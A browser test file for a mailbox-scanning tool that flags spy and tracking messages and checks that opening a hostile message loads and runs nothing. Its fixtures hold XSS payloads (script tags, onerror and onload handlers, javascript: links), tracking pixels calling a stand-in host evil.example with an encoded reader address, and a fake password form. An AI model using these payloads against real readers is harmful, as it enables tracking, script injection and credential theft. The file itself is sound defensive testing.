// Can a mailbox be scanned from the page, is a message that spies found, and is it opened without a request to anybody?

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { sampleMailbox } from "../../packages/portcullis/src/usecases/sample/sample-mail.ts";
import { Desk, overflow, settles, skip, violations } from "./desk-browser.ts";

/** All that a message may try: it loads, runs, leads away, covers the page or asks for a password. */
const HOSTILE_HTML = `<!doctype html><html><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/sheet.css"><link rel="prefetch" href="https://evil.example/prefetch">
<style>@import url(https://evil.example/import.css); @font-face{font-family:f;src:url(https://evil.example/font)}
body{font-family:f;background:url(https://evil.example/background.png)} p{position:fixed;inset:0;z-index:9}</style>
<script>top.document.title="run"; fetch("https://evil.example/fetch")</script></head>
<body onload="top.document.title='run'" background="https://evil.example/body.png">
<p>Lamps in museums</p>
<img width=1 height=1 src="https://evil.example/open.gif?u=cmVhZGVyQGhvdXNlLmV4YW1wbGU">
<img src=x onerror="top.document.title='run'"><picture><source srcset="https://evil.example/set.png"><img src="https://evil.example/p.png"></picture>
<svg onload="top.document.title='run'"><image href="https://evil.example/svg.png"/></svg>
<video src="https://evil.example/v.mp4" poster="https://evil.example/poster.png" autoplay></video>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<table style="background-image:url('https://evil.example/style.png')"><tr><td>cell</td></tr></table>
<form action="https://evil.example/form"><input name=password type=password autofocus><button>Sign in</button></form>
<a href="javascript:top.document.title='run'">script</a> <a href="https://evil.example/click" ping="https://evil.example/ping">Read more</a>
</body></html>`;

const HOSTILE = [
  "From a@lamp-notes.example Tue Jan 12 08:30:00 2021",
  'From: "<script>document.title=1</script>" <talbit@lamp-notes.example>',
  "To: reader@house.example",
  "Subject: <img src=x onerror=document.title='run'> Lamps",
  "Date: Tue, 12 Jan 2021 08:30:00 +0000",
  "Message-ID: <1@lamp-notes.example>",
  "Content-Type: text/html; charset=utf-8",
  "",
  HOSTILE_HTML,
  "",
  "",
].join("\n");

/** Read for many seconds, also on a quick machine. */
const MANY_MESSAGES = 50_000;

const desk = new Desk();
before(async () => {
  if (skip === false) await desk.open();
});
after(() => desk.close());

test("a mailbox chosen by key: who was targeted when, why, and what to do; messages one after the other by key", {
  skip,
  timeout: 120_000,
}, async () => {
  const { page, faults, close } = await desk.visit("/mail");
  await page.getByLabel("Readers at risk").fill("parliament.example");
  const choosing = page.waitForEvent("filechooser");
  await page.locator("main").focus();
  await page.keyboard.press("o");
  await (await choosing).setFiles({
    name: "members.mbox",
    mimeType: "application/mbox",
    buffer: sampleMailbox(),
  });
  await page.waitForURL(/\/mail\/[^/]+$/);
  const mailbox = page.getByRole("region", { name: "members.mbox" });
  await mailbox.getByText("Done", { exact: true }).waitFor();
  const campaigns = page.getByRole("list", { name: "Who was targeted when" });
  const worst = campaigns.getByRole("listitem").first();
  await worst.getByText("Questions on the reef committee").waitFor();
  await worst.getByText(/^20 Jan 2021: 2 messages to 2 readers/).waitFor();
  await page.getByRole("heading", { name: "What its readers can do now" }).waitFor();
  await page.getByRole("link", { name: /Guidance for high-risk individuals/ }).waitFor();
  await page.getByRole("list", { name: "Reconnaissance messages" }).getByRole("link").nth(1).waitFor();
  assert.deepEqual(await violations(page), []);

  await page.locator("main").focus();
  await page.keyboard.press("j");
  await page.waitForURL(/\/mail\/[^/]+\/1$/);
  const message = page.getByRole("region", { name: "Questions on the reef committee" });
  await message.getByRole("region", { name: "Sender" }).getByText("Not known").waitFor();
  await message
    .getByRole("region", { name: "What reports back" })
    .getByText(/harbour-courier-news/)
    .first()
    .waitFor();
  await message.getByText("q7Rk2mZx91LdTfYw", { exact: true }).first().waitFor();
  await page.frameLocator("iframe").locator("mark.beacon").waitFor();
  assert.deepEqual(await violations(page), []);
  await page.keyboard.press("j");
  await page.waitForURL(/\/mail\/[^/]+\/2$/);
  await message.getByText("Vn4cJ8sPe06HgUoA", { exact: true }).first().waitFor();

  await page.getByRole("tab", { name: "Clear (2)" }).press("Enter");
  await page
    .getByRole("link", { name: /Hearing on Thursday/ })
    .first()
    .waitFor();
  await page.setViewportSize({ width: 390, height: 844 });
  await page.getByRole("link", { name: "← All messages" }).waitFor();
  await settles(async () => (await overflow(page)) === 0, "nothing is wider than a phone");
  await page.getByRole("link", { name: "← All messages" }).click();
  await campaigns.waitFor();
  await settles(async () => (await overflow(page)) === 0, "nothing is wider than a phone");
  assert.deepEqual(faults, []);
  await close();
});

test("whatever a message tries, opening it asks nobody for anything and runs nothing", {
  skip,
  timeout: 120_000,
}, async () => {
  const { page, faults, close } = await desk.visit("/mail");
  const elsewhere: string[] = [];
  page.context().on("request", (request) => {
    if (!request.url().startsWith(desk.url)) elsewhere.push(request.url());
  });
  await page.route(/evil\.example/, (route) => route.abort());
  await page
    .getByLabel("Mailbox to scan")
    .setInputFiles({ name: "<b>inbox</b>.mbox", mimeType: "application/mbox", buffer: Buffer.from(HOSTILE) });
  await page.getByRole("region", { name: "<b>inbox</b>.mbox" }).getByText("Done", { exact: true }).waitFor();
  await page
    .getByRole("link", { name: /onerror/ })
    .first()
    .click();
  const frame = page.frameLocator("iframe");
  await frame.getByText("Lamps in museums").waitFor();
  await frame.locator("mark.beacon").first().waitFor();
  await page.getByText("cmVhZGVyQGhvdXNlLmV4YW1wbGU", { exact: true }).first().waitFor();
  assert.equal(await frame.locator("a, img, form, input, button, script, style + style").count(), 0);
  await frame.getByText("Read more").click();
  await page.getByText("Nothing in it was loaded").waitFor();
  assert.deepEqual(elsewhere, []);
  assert.deepEqual(faults, []);
  assert.equal(await page.title(), "Mail · Portcullis");
  assert.deepEqual(await violations(page), []);

  // The same message as a reader's program shows it: else nothing would be proven.
  const control = await page.context().newPage();
  await control.route(/evil\.example/, (route) => route.abort());
  await control.setContent(HOSTILE_HTML, { waitUntil: "domcontentloaded" }).catch(() => {});
  assert.ok(elsewhere.length >= 5, elsewhere.join("\n"));
  await close();
});

test("a mailbox is stopped by key while it is read, and can be removed", { skip, timeout: 120_000 }, async () => {
  const { page, faults, close } = await desk.visit("/mail");
  const message = (at: number) =>
    `From a@lamps.example Tue Jan 12 08:30:00 2021\nFrom: a@lamps.example\nTo: reader${at}@house.example\n` +
    `Subject: Lamps ${at}\nDate: Tue, 12 Jan 2021 08:30:00 +0000\nMessage-ID: <${at}@lamps.example>\n\nLamps.\n\n`;
  const buffer = Buffer.from(Array.from({ length: MANY_MESSAGES }, (_, at) => message(at)).join(""));
  await page.getByLabel("Mailbox to scan").setInputFiles({ name: "long.mbox", mimeType: "application/mbox", buffer });
  await page.waitForURL(/\/mail\/[^/]+$/);
  const mailbox = page.getByRole("region", { name: "long.mbox" });
  await mailbox.getByRole("button", { name: "Cancel (c)" }).waitFor();
  await mailbox.getByText("Running", { exact: true }).waitFor();
  await page.locator("main").focus();
  await page.keyboard.press("c");
  await mailbox.getByText("Cancelled", { exact: true }).waitFor();
  assert.deepEqual(await violations(page), []);
  await mailbox.getByRole("button", { name: "Remove" }).press("Enter");
  await mailbox.getByRole("button", { name: "Yes, remove its files" }).press("Enter");
  await page.waitForURL(/\/mail$/);
  await page.getByRole("heading", { name: "Mailboxes" }).waitFor();
  await page.getByRole("link", { name: "long.mbox" }).waitFor({ state: "detached" });
  assert.deepEqual(faults, []);
  await close();
});

test("what is no mail has its reason; a failing service keeps what was typed; a mailbox is removed", {
  skip,
  timeout: 120_000,
}, async () => {
  const { page, close } = await desk.visit("/mail");
  await page.getByLabel("Readers at risk").fill("house.example");
  await page.route(/\/api\/v1\/mail\?/, (route) => route.abort());
  const file = { name: "noise.bin", mimeType: "application/octet-stream", buffer: Buffer.from([0, 1, 2, 3]) };
  await page.getByLabel("Mailbox to scan").setInputFiles(file);
  const failed = page.getByRole("alert").filter({ hasText: "it is still here" });
  await failed.waitFor();
  assert.equal(await page.getByLabel("Readers at risk").inputValue(), "house.example");
  await page.unroute(/\/api\/v1\/mail\?/);
  await failed.getByRole("button", { name: "Try again" }).click();
  await page.waitForURL(/\/mail\/[^/]+$/);
  await page.getByText("MAIL_UNRECOGNISED").first().waitFor();
  await page.getByRole("button", { name: "Remove" }).click();
  await page.getByRole("button", { name: "Yes, remove its files" }).click();
  await page.waitForURL(/\/mail$/);
  await page.getByRole("heading", { name: "Mailboxes" }).waitFor();
  await page.getByRole("link", { name: "noise.bin" }).waitFor({ state: "detached" });
  await close();
});
